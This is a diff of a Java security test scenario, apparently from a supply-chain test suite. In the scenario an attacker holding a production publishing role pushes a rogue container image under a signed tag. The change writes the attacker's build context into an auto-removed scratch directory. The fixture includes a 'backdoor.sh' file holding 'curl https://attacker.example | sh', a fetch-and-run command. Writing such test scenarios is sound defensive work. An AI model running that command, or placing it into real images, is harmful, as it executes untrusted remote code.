@@ -125,10 +125,14 @@ final class ImageScenarios {
             "the holder of prod's image-publishing role pushes another image under the signed"
                 + " image asset's tag");
     Attacker attacker = a.as(prodRole);
-    Path evil = Files.createTempDirectory("cairn-evil-context-");
-    Files.writeString(evil.resolve("Dockerfile"), "FROM public.ecr.aws/docker/library/alpine\n");
-    Files.writeString(evil.resolve("backdoor.sh"), "curl https://attacker.example | sh\n");
-    ContextImage other = ContextImage.of(ASSET, evil);
+    ContextImage other;
+    // The attacker's build context, read into the image's layer at once and then removed.
+    try (Scratch evil = Scratch.create("cairn-evil-context-")) {
+      Files.writeString(
+          evil.path().resolve("Dockerfile"), "FROM public.ecr.aws/docker/library/alpine\n");
+      Files.writeString(evil.path().resolve("backdoor.sh"), "curl https://attacker.example | sh\n");
+      other = ContextImage.of(ASSET, evil.path());
+    }
     boolean[] squatted = {false};
     w.beforeImagePush =
         (account, repository, tag) -> {
